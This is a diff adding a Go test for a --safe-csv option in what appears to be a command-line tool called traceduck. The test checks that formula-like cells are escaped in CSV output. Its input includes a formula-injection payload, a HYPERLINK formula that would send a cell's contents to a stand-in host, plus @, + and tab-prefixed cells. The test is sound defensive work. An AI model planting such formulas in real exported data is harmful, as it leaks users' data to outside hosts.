@@ -192,3 +192,27 @@ func TestTerminalOutput(t *testing.T) {
 		t.Errorf("a large output on a terminal: %d bytes, want %d", len(big), len(want))
 	}
 }
+
+// --safe-csv: a text cell a spreadsheet would run as a formula (=, +, -,
+// @, or a tab or carriage return first) gets a leading '; numbers stay
+// numbers. Without it, the cells are the data.
+func TestSafeCSV(t *testing.T) {
+	dir := t.TempDir()
+	const q = `SELECT '=HYPERLINK("http://x/?"&A1,"y")' AS "=cmd", -5 AS n, -0.5 AS f, '-5' AS s, '@SUM(A1)' AS a, '+1' AS p, chr(9) || '=1' AS tab, chr(13) || '=1' AS cr, 'a=b' AS ok, NULL AS nul`
+	got := mustRun(t, dir, nil, "query", "--db", ":memory:", "-o", "csv", "--safe-csv", q)
+	want := "'=cmd,n,f,s,a,p,tab,cr,ok,nul\r\n" +
+		`"'=HYPERLINK(""http://x/?""&A1,""y"")",-5,-0.5,'-5,'@SUM(A1),'+1,'` + "\t=1,\"'\r=1\",a=b,\r\n"
+	if got != want {
+		t.Errorf("--safe-csv:\n%q\nwant\n%q", got, want)
+	}
+	got = mustRun(t, dir, nil, "query", "--db", ":memory:", "-o", "csv", q)
+	want = "=cmd,n,f,s,a,p,tab,cr,ok,nul\r\n" +
+		`"=HYPERLINK(""http://x/?""&A1,""y"")",-5,-0.5,-5,@SUM(A1),+1,` + "\"\t=1\",\"\r=1\",a=b,\r\n"
+	if got != want {
+		t.Errorf("csv without --safe-csv:\n%q\nwant\n%q", got, want)
+	}
+	r := td(t, dir, "states", "--db", ":memory:", "--safe-csv")
+	if want := "traceduck: --safe-csv is for --output csv (the output is table)\n"; r.code != 2 || !strings.HasPrefix(r.stderr, want) {
+		t.Errorf("--safe-csv without csv: %s, want exit 2 and %q", r, want)
+	}
+}
